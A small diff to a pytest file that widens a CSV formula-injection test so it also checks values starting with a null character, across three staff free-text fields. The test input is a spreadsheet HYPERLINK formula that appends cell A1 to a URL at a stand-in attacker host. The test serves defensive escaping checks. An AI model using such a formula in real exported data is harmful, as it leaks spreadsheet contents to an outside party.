@@ -78,7 +78,7 @@ def test_visits_csv_headers_name_units_and_formats() -> None:
     assert times == 7
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
 @pytest.mark.parametrize("field", ["note", "assessment", "closing_reason"])
 def test_staff_free_text_is_escaped(start: str, field: str) -> None:
     hostile = f'{start}HYPERLINK("http://evil.example/?"&A1)'
